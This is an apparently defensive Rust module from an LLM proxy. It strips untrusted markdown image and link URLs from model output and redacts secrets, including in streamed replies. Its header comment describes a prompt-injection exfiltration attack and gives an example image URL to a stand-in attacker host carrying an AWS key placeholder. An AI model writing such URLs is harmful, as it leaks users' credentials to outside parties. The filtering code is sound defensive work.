//! What the model writes back, neutralised before the agent (and whoever renders its output)
//! sees it.
//!
//! Threat answered: a model steered by injected text writes the data it read into a URL the
//! agent's chat UI fetches on its own: `![](https://attacker.example/p.png?k=[aws-access-key-id#1])`
//! (the placeholder is restored to the real key on the way out), or a link carrying it. And a
//! secret the model reassembled or decoded is echoed in its reply.
//!
//! In the model's own text (before placeholders are restored, so a URL that would carry a value
//! is seen carrying its placeholder):
//! - a markdown image whose host is not named in `[egress] allow_domains` loses its URL (an image
//!   is fetched without a click);
//! - a markdown link whose host is not named there and whose URL carries data (a query, a
//!   fragment, user info, a placeholder, or a path longer than [`MAX_PLAIN_PATH`]) loses its URL;
//! - a secret the detectors find is redacted one way (`[REDACTED:rule]`).
//!
//! A lost URL becomes `#bulwark-removed`, which points nowhere. Streams are filtered as they
//! come: text goes on up to its last whitespace, except an unfinished link, which waits (at most
//! [`MAX_HOLD`] bytes) until it is whole.

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use super::placeholders::{Conversation, redact_text};
use crate::scan::{Detectors, Scanner};

/// What a removed URL becomes.
pub const REMOVED: &str = "#bulwark-removed";
/// Longest path a link to a host not named may have and still pass (longer ones can carry data).
pub const MAX_PLAIN_PATH: usize = 64;
/// Most bytes a stream holds while a link or a word is unfinished.
pub const MAX_HOLD: usize = 4096;

/// Whether a host is named as trusted (by the egress allowlist).
pub type NamesHost = dyn Fn(&str) -> bool + Send + Sync;

/// The output guard of one exchange: how it judges, and what it did.
pub struct OutputPolicy {
    scanner: Scanner,
    names_host: Arc<NamesHost>,
    links: AtomicUsize,
    secrets: AtomicUsize,
}

impl std::fmt::Debug for OutputPolicy {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("OutputPolicy")
            .field("links", &self.links)
            .field("secrets", &self.secrets)
            .finish()
    }
}

impl OutputPolicy {
    /// A guard that finds secrets with `scanner` and trusts the hosts `names_host` names.
    pub fn new(scanner: Scanner, names_host: Arc<NamesHost>) -> OutputPolicy {
        OutputPolicy {
            scanner,
            names_host,
            links: AtomicUsize::new(0),
            secrets: AtomicUsize::new(0),
        }
    }

    /// URLs removed and secrets redacted so far.
    pub fn counts(&self) -> (usize, usize) {
        (
            self.links.load(Ordering::Relaxed),
            self.secrets.load(Ordering::Relaxed),
        )
    }

    /// Whether a URL the model wrote may stay.
    fn keep(&self, url: &str, image: bool) -> bool {
        let url = url.trim();
        // `//host/path` is the reader's own scheme on another host.
        let absolute;
        let url = if url.starts_with("//") {
            absolute = format!("https:{url}");
            absolute.as_str()
        } else {
            url
        };
        let Some((scheme, _)) = url.split_once(':') else {
            // Relative: it stays where the reader is.
            return true;
        };
        if !scheme
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'-' | b'.'))
        {
            return true;
        }
        let Ok(u) = url::Url::parse(url) else {
            // Looks absolute, does not parse: not known to be harmless.
            return false;
        };
        match u.host_str() {
            // mailto:, data:, tel:: nothing is fetched from a host.
            None => !image || u.scheme() == "data",
            Some(host) => {
                if (self.names_host)(host) {
                    return true;
                }
                if image {
                    return false;
                }
                let carries = u.query().is_some()
                    || u.fragment().is_some()
                    || !u.username().is_empty()
                    || u.password().is_some()
                    || u.path().len() > MAX_PLAIN_PATH
                    || url.contains('[');
                !carries
            }
        }
    }

    /// Neutralise one whole text: links first, then secrets.
    pub fn text(&self, s: &str) -> String {
        self.segment("", s, true)
    }

    /// [`OutputPolicy::text`] for a copy of a text already counted (a stream's final object
    /// repeats what its deltas carried).
    pub fn text_again(&self, s: &str) -> String {
        let counts = self.counts();
        let out = self.segment("", s, true);
        self.links.store(counts.0, Ordering::Relaxed);
        self.secrets.store(counts.1, Ordering::Relaxed);
        out
    }

    /// Neutralise a piece of a text that follows `context` (already sent: it is read, so a
    /// secret named by the words before it is found, but not changed). Unless the piece is
    /// `whole`, a URL that runs to its end is cut short and removed, whatever it is (its end,
    /// still to come, cannot be judged).
    fn segment(&self, context: &str, s: &str, whole: bool) -> String {
        let linked = self.links(s, whole);
        let secrets = Detectors {
            secrets: true,
            pii: false,
            injection: false,
        };
        let mut none = Conversation::new(0);
        let mut read = String::with_capacity(context.len() + linked.len());
        read.push_str(context);
        read.push_str(&linked);
        let r = redact_text(&self.scanner, secrets, &mut none, &read);
        if r.one_way == 0 {
            return linked;
        }
        if let Some(mine) = r.text.strip_prefix(context) {
            self.secrets.fetch_add(r.one_way, Ordering::Relaxed);
            return mine.to_string();
        }
        // A finding reaches into what was sent: this piece is judged alone.
        let r = redact_text(&self.scanner, secrets, &mut none, &linked);
        self.secrets.fetch_add(r.one_way, Ordering::Relaxed);
        r.text
    }

    /// Remove the URLs that may not stay: of markdown images and links (inline, and reference
    /// definitions, judged as images), of HTML `<img>` tags, and bare URLs and autolinks (judged
    /// as links).
    fn links(&self, s: &str, whole: bool) -> String {
        let mut spans = url_spans(s);
        spans.sort_by_key(|x| x.0);
        let mut out = String::with_capacity(s.len());
        let mut pos = 0;
        for (start, end, image) in spans {
            if start < pos {
                continue;
            }
            out.push_str(&s[pos..start]);
            let url = &s[start..end];
            let cut_short = !whole && end == s.len();
            if !cut_short && self.keep(&unescape(url), image) {
                out.push_str(url);
            } else {
                self.links.fetch_add(1, Ordering::Relaxed);
                out.push_str(REMOVED);
            }
            pos = end;
        }
        out.push_str(&s[pos..]);
        out
    }
}

/// A URL as a markdown or HTML reader takes it: without `<>`, backslash escapes and character
/// references decoded.
fn unescape(url: &str) -> String {
    let url = url.trim();
    let url = url
        .strip_prefix('<')
        .and_then(|u| u.strip_suffix('>'))
        .unwrap_or(url);
    let mut out = String::with_capacity(url.len());
    let mut rest = url;
    while let Some(c) = rest.chars().next() {
        if c == '\\'
            && let Some(n) = rest[1..].chars().next()
            && n.is_ascii_punctuation()
        {
            out.push(n);
            rest = &rest[1 + n.len_utf8()..];
            continue;
        }
        if c == '&'
            && let Some(semi) = rest.find(';').filter(|&i| i <= 10)
        {
            let name = &rest[1..semi];
            let decoded = match name {
                "colon" => Some(':'),
                "sol" => Some('/'),
                "quest" => Some('?'),
                "equals" => Some('='),
                "period" => Some('.'),
                "amp" => Some('&'),
                _ => name
                    .strip_prefix("#x")
                    .or_else(|| name.strip_prefix("#X"))
                    .and_then(|h| u32::from_str_radix(h, 16).ok())
                    .or_else(|| name.strip_prefix('#').and_then(|d| d.parse().ok()))
                    .and_then(char::from_u32),
            };
            if let Some(d) = decoded {
                out.push(d);
                rest = &rest[semi + 1..];
                continue;
            }
        }
        out.push(c);
        rest = &rest[c.len_utf8()..];
    }
    out
}

/// Where `[` opens the label whose `]` is at `close`, counting nested brackets (at most
/// [`MAX_HOLD`] bytes back).
fn label_start(s: &str, close: usize) -> Option<usize> {
    let b = s.as_bytes();
    let floor = close.saturating_sub(MAX_HOLD);
    let mut depth = 0usize;
    let mut i = close;
    while i > floor {
        i -= 1;
        match b[i] {
            b']' => depth += 1,
            b'[' if depth == 0 => return Some(i),
            b'[' => depth -= 1,
            _ => {}
        }
    }
    None
}

/// The URLs in `s` a reader may follow or fetch: (start, end, judged as an image).
fn url_spans(s: &str) -> Vec<(usize, usize, bool)> {
    let b = s.as_bytes();
    let mut spans: Vec<(usize, usize, bool)> = Vec::new();
    let taken = |spans: &Vec<(usize, usize, bool)>, a: usize, z: usize| {
        spans.iter().any(|&(x, y, _)| a < y && x < z)
    };
    let ws = |c: u8| c.is_ascii_whitespace();
    // Inline destinations: `](URL` (spaces allowed before it, `<URL>` too).
    let mut from = 0;
    while let Some(off) = s[from..].find("](") {
        let close = from + off;
        from = close + 2;
        let image = label_start(s, close).is_some_and(|l| l > 0 && b[l - 1] == b'!');
        let mut start = close + 2;
        while start < b.len() && ws(b[start]) {
            start += 1;
        }
        let end = if b.get(start) == Some(&b'<') {
            s[start..].find('>').map_or(b.len(), |e| start + e + 1)
        } else {
            s[start..]
                .find(|c: char| c == ')' || c.is_whitespace())
                .map_or(b.len(), |e| start + e)
        };
        if end > start {
            spans.push((start, end, image));
        }
    }
    // Reference definitions `[label]: URL` at a line's start: any image may use them.
    let mut line_start = 0;
    for line in s.split_inclusive('\n') {
        let trimmed = line.trim_start_matches(' ');
        if line.len() - trimmed.len() <= 3
            && trimmed.starts_with('[')
            && let Some(colon) = trimmed.find("]:")
        {
            let mut start = line_start + (line.len() - trimmed.len()) + colon + 2;
            while start < b.len() && (b[start] == b' ' || b[start] == b'\t') {
                start += 1;
            }
            let end = s[start..]
                .find(char::is_whitespace)
                .map_or(b.len(), |e| start + e);
            if end > start && !taken(&spans, start, end) {
                spans.push((start, end, true));
            }
        }
        line_start += line.len();
    }
    // HTML images: `<img ... src=URL>`.
    let lower = s.to_ascii_lowercase();
    let mut from = 0;
    while let Some(off) = lower[from..].find("<img") {
        let tag = from + off;
        from = tag + 4;
        let tag_end = lower[tag..].find('>').map_or(b.len(), |e| tag + e);
        let Some(src) = lower[tag..tag_end].find("src") else {
            continue;
        };
        let mut i = tag + src + 3;
        while i < tag_end && ws(b[i]) {
            i += 1;
        }
        if b.get(i) != Some(&b'=') {
            continue;
        }
        i += 1;
        while i < tag_end && ws(b[i]) {
            i += 1;
        }
        let (start, end) = match b.get(i) {
            Some(&q @ (b'"' | b'\'')) => {
                let start = i + 1;
                (
                    start,
                    s[start..].find(q as char).map_or(b.len(), |e| start + e),
                )
            }
            _ => (
                i,
                s[i..]
                    .find(|c: char| c.is_whitespace() || c == '>')
                    .map_or(b.len(), |e| i + e),
            ),
        };
        if end > start && !taken(&spans, start, end) {
            spans.push((start, end, true));
        }
    }
    // Bare URLs and autolinks: `scheme://...`.
    let mut from = 0;
    while let Some(off) = s[from..].find("://") {
        let sep = from + off;
        from = sep + 3;
        let mut start = sep;
        while start > 0
            && (b[start - 1].is_ascii_alphanumeric() || matches!(b[start - 1], b'+' | b'-' | b'.'))
        {
            start -= 1;
        }
        if start == sep {
            continue;
        }
        let end = s[sep..]
            .find(|c: char| c.is_whitespace() || matches!(c, '<' | '>' | '"' | '\'' | '`' | ')'))
            .map_or(b.len(), |e| sep + e);
        if !taken(&spans, start, end) {
            spans.push((start, end, false));
        }
    }
    spans
}

/// One streamed text, filtered as it comes.
#[derive(Debug, Default)]
pub struct OutputFilter {
    held: String,
    /// The end of what was sent, read as context for the next piece.
    sent: String,
}

/// Bytes of sent text kept as context.
const CONTEXT: usize = 64;

/// Where an unfinished link starts in `s` (the `[` of a label not yet followed by its URL's
/// end), if one does.
fn open_link(s: &str) -> Option<usize> {
    // An unfinished URL: `](` with no end after it.
    if let Some(i) = s.rfind("](") {
        let dest = s[i + 2..].trim_start();
        if !dest.contains(|c: char| c == ')' || c.is_whitespace()) {
            return Some(label_start(s, i).map_or(i, |l| l.saturating_sub(1)));
        }
    }
    let b = s.rfind('[')?;
    let rest = &s[b..];
    match rest.find(']') {
        // A label still open: a link may follow.
        None => Some(if b > 0 && s.as_bytes()[b - 1] == b'!' {
            b - 1
        } else {
            b
        }),
        // A label just closed: its `(` may come next.
        Some(e) if b + e + 1 == s.len() => Some(b),
        Some(_) => None,
    }
}

impl OutputFilter {
    /// A filter for one streamed text.
    pub fn new() -> OutputFilter {
        OutputFilter::default()
    }

    /// Add a chunk: what may go on now, neutralised.
    pub fn push(&mut self, policy: &OutputPolicy, chunk: &str) -> String {
        self.held.push_str(chunk);
        let mut cut = self.held.rfind(char::is_whitespace).map_or(0, |i| {
            i + self.held[i..].chars().next().map_or(1, char::len_utf8)
        });
        if let Some(open) = open_link(&self.held) {
            cut = cut.min(open);
        }
        let mut whole = true;
        if self.held.len() - cut > MAX_HOLD {
            // Too long to wait for: judged as it is, an unfinished URL removed.
            cut = self.held.len();
            whole = false;
        }
        if cut == 0 {
            return String::new();
        }
        let rest = self.held.split_off(cut);
        let ready = std::mem::replace(&mut self.held, rest);
        let out = policy.segment(&self.sent, &ready, whole);
        self.remember(&out);
        out
    }

    /// The text ended: the rest, neutralised.
    pub fn finish(&mut self, policy: &OutputPolicy) -> String {
        let ready = std::mem::take(&mut self.held);
        if ready.is_empty() {
            return ready;
        }
        policy.segment(&self.sent, &ready, true)
    }

    fn remember(&mut self, out: &str) {
        self.sent.push_str(out);
        if self.sent.len() > CONTEXT {
            let mut from = self.sent.len() - CONTEXT;
            while !self.sent.is_char_boundary(from) {
                from += 1;
            }
            self.sent.drain(..from);
        }
    }
}
